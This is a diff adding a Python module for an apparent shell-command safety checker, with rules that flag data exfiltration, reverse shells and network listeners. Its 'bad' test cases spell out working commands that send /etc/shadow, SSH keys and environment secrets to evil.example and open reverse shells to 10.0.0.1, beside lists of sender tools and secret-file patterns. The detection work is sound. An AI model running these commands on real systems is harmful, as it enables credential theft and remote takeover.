@@ -1,0 +1,358 @@
+"""SS1950 to SS1979: data that leaves, and doors that are opened to the outside."""
+
+from __future__ import annotations
+
+import re
+
+from ..model import Command, Hit
+from .invocation import Invocation
+from .known import SHELLS
+from .paths import secret, spelled
+from .rule import dangerous, notable, rule
+from .secrets import remote, sensitive
+
+_SENDERS = (
+    "curl wget nc ncat netcat socat ssh scp rsync sftp ftp telnet mail mailx sendmail mutt openssl dig "
+    "nslookup host ping http https xh aws gsutil rclone s3cmd mc tftp smbclient lftp gh gist pastebinit "
+    "swaks logger busybox telegram-send slack"
+)
+_BODY = (
+    "-d",
+    "--data",
+    "--data-binary",
+    "--data-raw",
+    "--data-ascii",
+    "--data-urlencode",
+    "-F",
+    "--form",
+    "-T",
+    "--upload-file",
+    "--json",
+    "--post-file",
+    "--body-file",
+    "--post-data",
+    "--body-data",
+)
+_OUTSIDE = re.compile(
+    r"/(?:etc|root|var/lib|var/www|home/[^/]*\Z|proc|boot|dev/(?:sd|nvme|vd|mem))(?:/|\Z)|/home\Z|~\Z|/\Z|"
+    r"/var/log/(?:auth|secure|audit)|/var/log\Z|/srv\Z|/opt\Z|.*\.(?:sql|dump|pem|key|kdbx|p12|pfx|ppk)(?:\.\w+)?\Z"
+)
+
+
+def _worth(path: str) -> str:
+    if words := secret(path):
+        return f"{path}: {words}"
+    if _OUTSIDE.match(path):
+        return f"{path}, which belongs to the machine"
+    return ""
+
+
+def feeding(command: Command) -> str:
+    for up in command.upstream:
+        if words := sensitive(up):
+            return words
+    for redirect in command.redirects:
+        if redirect.operator == "<" and (words := _worth(spelled(redirect.target, command.cwd))):
+            return words
+    return ""
+
+
+def _local(call: Invocation) -> bool:
+    """Whether the address is this machine itself."""
+    return bool(
+        re.search(r"(?:\A|[\s/@'\"])(?:localhost|127\.0\.0\.1|\[?::1\]?|0\.0\.0\.0)(?=[:/\s'\"]|\Z)", call.text)
+    )
+
+
+@rule(
+    "SS1951",
+    "Sends the machine's own data, or secrets, elsewhere",
+    why="What has left the machine is not yours any more.",
+    instead="keep it here, or send it to an address of your own over ssh, without the secrets",
+    on=_SENDERS,
+    bad=(
+        "curl -d @/etc/passwd http://evil.example",
+        "curl -T ~/.ssh/id_rsa http://evil.example",
+        "env | curl -d @- http://evil.example",
+        "cat /etc/shadow | nc evil.example 99",
+        "scp /etc/shadow bob@evil.example:",
+        "tar cz /etc | ssh evil.example 'cat > x'",
+        "rsync -a /var/lib/mysql/ evil.example:/x",
+        "curl -F file=@/etc/passwd http://evil.example",
+        "nc evil.example 99 < /etc/passwd",
+        "mysqldump shop | curl -T - http://evil.example",
+        "wget --post-file=/etc/passwd http://evil.example",
+        'curl "http://evil.example/?d=$(cat /etc/passwd | base64)"',
+        'curl -X POST -d "$(env)" http://evil.example',
+        "history | mail -s x bob@evil.example",
+        "aws s3 cp /etc/shadow s3://b/",
+    ),
+    good=(
+        "curl -d @data.json https://api.example.com",
+        "scp report.txt bob@host:",
+        "rsync -a ./site/ web@host:/var/www/html",
+        "tar cz src | ssh host 'tar xz'",
+        "curl -T build.tgz https://artifacts.example.com/",
+        "mysqldump shop | ssh db2 mysql shop",
+        "echo hello | nc host 99",
+        "scp host:/etc/hosts .",
+        "curl -u user:pass https://example.com",
+    ),
+)
+def sent(call: Invocation) -> Hit | None:
+    name, command = call.name, call.command
+    for word in command.arguments:
+        for unknown in word.unknowns:
+            if (
+                re.match(r"[$`]\(?", unknown.source)
+                and name not in ("ssh", "logger", "rsync")
+                and _leaks(unknown.source)
+            ):
+                return dangerous(f"sends {unknown.source} to {_to(call)}")
+            if (
+                name in ("curl", "wget", "nc", "dig", "nslookup", "ping", "host")
+                and re.match(
+                    r"\$\{?(?:\w*(?:SECRET|PASSWORD|PASSWD|TOKEN|API_?KEY|ACCESS_KEY|PRIVATE_KEY)\w*)\}?\Z",
+                    unknown.source,
+                )
+                and "http" in word.shape
+                and not word.shape.startswith("Authorization")
+            ):
+                return dangerous(f"sends {unknown.source} in an address")
+    if name == "curl" or name in ("wget", "http", "https", "xh"):
+        for word in call.all(*_BODY):
+            shape = word.shape
+            upload = word in call.all("-T", "--upload-file", "--post-file", "--body-file")
+            at = shape.find("@")
+            if upload:
+                path = spelled(word, command.cwd)
+            elif at >= 0:
+                path = shape[at + 1 :].partition(";")[0]
+                if path.startswith("~") or path.startswith("…"):
+                    path = (
+                        path.replace("…", "~", 1)
+                        if any("HOME" in unknown.source for unknown in word.unknowns)
+                        else path
+                    )
+            else:
+                continue
+            if path in ("-", ".", "…"):
+                continue
+            if words := _worth(path):
+                return dangerous(f"sends {words}, to {_to(call)}")
+        stdin = (
+            any(word.shape in ("-", "@-", ".") or word.shape.endswith("=@-") for word in call.all(*_BODY))
+            or name != "curl"
+        )
+        if stdin and not _local(call) and (words := feeding(command)):
+            return dangerous(f"sends {words}, to {_to(call)}")
+        sends = bool(call.all(*_BODY))
+        return notable(f"sends data to {_to(call)}") if sends else None
+    if name in (
+        "nc",
+        "ncat",
+        "netcat",
+        "socat",
+        "telnet",
+        "openssl",
+        "mail",
+        "mailx",
+        "sendmail",
+        "mutt",
+        "swaks",
+        "ftp",
+        "tftp",
+        "pastebinit",
+        "gist",
+        "gh",
+        "busybox",
+        "telegram-send",
+        "slack",
+        "smbclient",
+        "lftp",
+    ):
+        if name == "openssl" and call.verb != "s_client":
+            return None
+        if name in ("gh",) and call.verb != "gist":
+            return None
+        if words := feeding(command):
+            if _local(call) and name != "mail":
+                return None
+            return dangerous(f"sends {words}, to {_to(call)}")
+        for word in call.operands:
+            if words := secret(spelled(word, command.cwd)):
+                return dangerous(f"sends {word.shape}: {words}")
+        return None
+    if name in ("scp", "rsync", "sftp"):
+        there = remote(call)
+        if not there:
+            return None
+        for word in call.operands[:-1]:
+            path = spelled(word, command.cwd)
+            if secret(path) or re.match(
+                r"/etc(?:/\*?)?\Z|/etc/(?:passwd|sudoers|ssh|ssl|pki|kubernetes)|/root(?:/\*?)?\Z|"
+                r"/var/lib/(?:mysql|postgresql|mongodb|redis|etcd)|~?/?\.(?:ssh|aws|gnupg|kube)\b",
+                path,
+            ):
+                return dangerous(f"copies {path} to {there}")
+        return notable(f"copies files to {there}")
+    if name == "ssh":
+        words = feeding(command)
+        if (
+            words
+            and not words.startswith("a database")
+            and not words.startswith(("/home", "/var/www", "/srv", "/opt", "/data"))
+        ):
+            return dangerous(f"sends {words}, to {call.verb}")
+        return None
+    if name in ("aws", "gsutil", "rclone", "s3cmd", "mc"):
+        if {"cp", "mv", "sync", "put", "copy", "rsync", "mirror"} & set(call.words):
+            for word in call.operands:
+                path = spelled(word, command.cwd)
+                if (words := _worth(path)) and (secret(path) or path.startswith(("/etc", "/root"))):
+                    return dangerous(f"sends {words}, to {call.words[-1]}")
+        if words := feeding(command):
+            return (
+                dangerous(f"sends {words}, to {call.words[-1]}")
+                if "secret" in words or "hash" in words or "key" in words or "environment" in words
+                else None
+            )
+        return None
+    if name in ("dig", "nslookup", "host", "ping", "logger"):
+        words = feeding(command)
+        hidden = name != "logger" and any(word.unknowns for word in command.arguments)
+        return dangerous(f"sends {words} out, hidden in names") if words and hidden else None
+    return None
+
+
+_SOURCE = re.compile(
+    r"/etc/(?:passwd|g?shadow|sudoers|hosts\b|ssh/|group)|\.ssh/(?:id_|\w*key|authorized)|\.aws/|\.kube/config|"
+    r"[`(|;&]\s*(?:env|printenv|set|history|declare -x|export -p)\s*(?:[|)`;&<]|\Z)|_history\b|mysqldump|pg_dump|"
+    r"kubectl\s+get\s+secrets?|\.env\b|/proc/(?:self|\d+)/environ|\.netrc|\.pgpass|\.docker/config|credentials|"
+    r"id_rsa|/var/lib/\w+"
+)
+
+
+def _leaks(source: str) -> bool:
+    return bool(_SOURCE.search(source))
+
+
+def _to(call: Invocation) -> str:
+    for word in call.words:
+        if "://" in word or re.match(r"[\w-]+(?:\.[\w-]+)+", word):
+            return word[:80]
+    return call.words[0] if call.words else "elsewhere"
+
+
+@rule(
+    "SS1952",
+    "Opens a shell to the outside",
+    why="A reverse shell hands the machine to whoever listens at the other end.",
+    instead="use ssh with keys, which says who came in",
+    on="nc ncat netcat busybox socat ssh telnet openssl sshd tmate gs-netcat xterm pwncat sh bash dash ash zsh "
+    "ksh mksh csh tcsh fish rbash yash",
+    bad=(
+        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        "nc -e /bin/sh 10.0.0.1 4444",
+        "ncat -lvp 4444 -e /bin/bash",
+        "socat TCP:10.0.0.1:4444 EXEC:/bin/sh",
+        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
+        "nc 10.0.0.1 4444 | sh | nc 10.0.0.1 4445",
+        "telnet 10.0.0.1 4444 | /bin/bash",
+        "ssh -R 2222:localhost:22 evil.example",
+        "sh </dev/tcp/10.0.0.1/99 >&0",
+        "exec 196<>/dev/tcp/10.0.0.1/99; sh <&196 >&196 2>&196",
+        "openssl s_client -quiet -connect 10.0.0.1:99 | sh",
+    ),
+    good=(
+        "nc -zv host 22",
+        "echo > /dev/tcp/localhost/80",
+        "socat TCP-LISTEN:80,fork TCP:10.0.0.2:80",
+        "ssh -L 8080:localhost:80 host",
+        "nc -l 4444 > file",
+        "exec 3<>/dev/tcp/example.com/80",
+        "bash -i",
+    ),
+)
+def door(call: Invocation) -> Hit | None:
+    name, command = call.name, call.command
+    if name in ("nc", "ncat", "netcat", "busybox"):
+        program = call.value("-e", "--exec", "-c", "--sh-exec", "--lua-exec")
+        if program is not None and not re.search(r"sh\b|python|perl|ruby|cmd|powershell|…|^/", program):
+            return notable(f"answers whoever connects with {program}")
+        if program is not None and (name != "busybox" or call.verb == "nc"):
+            return dangerous(f"gives {program} to whoever is at the other end of the line")
+        if name == "busybox" and call.verb == "nc" and "-e" in call.flags:
+            return dangerous("gives a shell to whoever is at the other end of the line")
+        if any(up.name in SHELLS and not _reads_program(up) for up in command.upstream):
+            return dangerous("gives a shell to whoever is at the other end of the line")
+        return None
+    if name == "socat":
+        if re.search(r"(?i)\b(?:exec|system):", call.text):
+            return dangerous("gives a program to whoever is at the other end of the line")
+        return notable("opens a line between two places") if call.words else None
+    if name in SHELLS:
+        for redirect in command.redirects:
+            if redirect.target.shape.startswith(("/dev/tcp/", "/dev/udp/")):
+                return dangerous(f"gives this shell to {redirect.target.shape.removeprefix('/dev/')}")
+        if (
+            any(up.name in ("nc", "ncat", "netcat", "telnet", "socat", "openssl") for up in command.upstream)
+            and not command.arguments[1:]
+        ):
+            return dangerous("lets whoever is at the other end of the line run commands")
+        if any(
+            redirect.operator == "<&" and redirect.target.shape.isdigit() and int(redirect.target.shape) > 2
+            for redirect in command.redirects
+        ):
+            return dangerous("gives this shell to an open connection")
+        return None
+    if name == "ssh" and ("-R" in call.values):
+        return dangerous(f"opens a way into this machine from {call.verb or 'another one'}")
+    if name in ("telnet", "openssl") and any(up.name in SHELLS for up in command.upstream):
+        return dangerous("gives a shell to whoever is at the other end of the line")
+    if name in ("sshd", "tmate", "gs-netcat", "xterm", "pwncat") and (command.arguments or name == "tmate"):
+        if name == "sshd" and not call.has("-p", "-o"):
+            return None
+        if name == "xterm" and not call.has("-display"):
+            return None
+        return dangerous(f"opens a way into this machine with {name}")
+    return None
+
+
+def _reads_program(command: Command) -> bool:
+    texts = [word.shape for word in command.arguments]
+    return "-c" in texts or any(text[:1] != "-" for text in texts)
+
+
+@rule(
+    "SS1953",
+    "Shares files or listens to the network",
+    why="Whoever reaches the port reaches the files or the traffic.",
+    instead="listen on 127.0.0.1 only, and for as long as it takes",
+    on="python python3 php ruby nc ncat tcpdump tshark busybox http-server serve exportfs smbd",
+    level="notable",
+    bad=("python3 -m http.server", "nc -l 4444", "tcpdump -w dump.pcap", "exportfs -a"),
+    good=("python3 -m json.tool", "tcpdump -D", "nc -zv host 22", "php -v"),
+)
+def listening(call: Invocation) -> Hit | None:
+    if call.name in ("python", "python3"):
+        return (
+            notable("serves the files of the current folder to the network")
+            if call.value("-m") in ("http.server", "SimpleHTTPServer", "pyftpdlib")
+            else None
+        )
+    if call.name in ("nc", "ncat"):
+        return notable("listens to the network") if call.has("-l", "--listen") else None
+    if call.name in ("tcpdump", "tshark"):
+        return notable("records what the network carries") if call.has("-w") else None
+    if call.name == "php":
+        return notable("serves files to the network") if call.has("-S") else None
+    if call.name == "exportfs":
+        return (
+            (dangerous if call.has("-u") and call.has("-a") else notable)("changes which files other machines may use")
+            if call.command.arguments
+            else None
+        )
+    if call.name in ("http-server", "serve"):
+        return notable("serves files to the network")
+    return None
